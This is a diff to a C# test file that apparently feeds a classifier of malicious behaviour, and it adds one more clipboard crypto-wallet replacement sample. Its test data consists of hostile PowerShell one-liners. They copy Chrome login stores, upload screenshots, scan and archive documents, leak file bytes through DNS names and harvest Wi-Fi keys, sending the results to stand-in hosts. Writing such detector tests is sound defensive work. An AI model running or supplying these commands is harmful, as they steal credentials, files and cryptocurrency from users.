@@ -21,6 +21,7 @@ public sealed class TraitTests
     [InlineData("browser-stores-copied", "'Login Data','Local State' | % { Copy-Item \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\$_\" $t }; Invoke-RestMethod http://203.0.113.7/ -Method Post -InFile $t")]
     [InlineData("screen-sent", "while($true){ $g.CopyFromScreen(0,0,0,0,$s); (New-Object Net.WebClient).UploadFile('ftp://a.example/x',$f); Start-Sleep 60 }")]
     [InlineData("wallet-in-clipboard-replaced", "while($true){ if ((Get-Clipboard) -match '^(bc1|[13])[a-zA-Z0-9]{25,39}$') { Set-Clipboard 'x' }; Start-Sleep 1 }")]
+    [InlineData("wallet-in-clipboard-replaced", "$p = @{ eth='^0x[a-fA-F0-9]{40}$' }; for(;;){ $t = [Windows.Clipboard]::GetText(); foreach($k in $p.Keys){ if($t -cmatch $p[$k]){ [Windows.Clipboard]::SetText('0x00') } }; Start-Sleep -Milliseconds 350 }")]
     [InlineData("documents-sent", "Get-PSDrive -PSProvider FileSystem | % { gci $_.Root -Include *.docx,*.xlsx,*.pdf -Recurse } | Compress-Archive -DestinationPath $z; Invoke-WebRequest https://a.example/u -Method Post -InFile $z")]
     [InlineData("data-in-names", "$h=[BitConverter]::ToString([IO.File]::ReadAllBytes($f)); for($i=0;$i -lt $h.Length;$i+=50){ Resolve-DnsName ($h.Substring($i,50)+'.x.example') }")]
     [InlineData("wlan-keys-sent", "$k = netsh wlan show profile name=$n key=clear; Invoke-RestMethod https://a.example/h -Method Post -Body $k")]
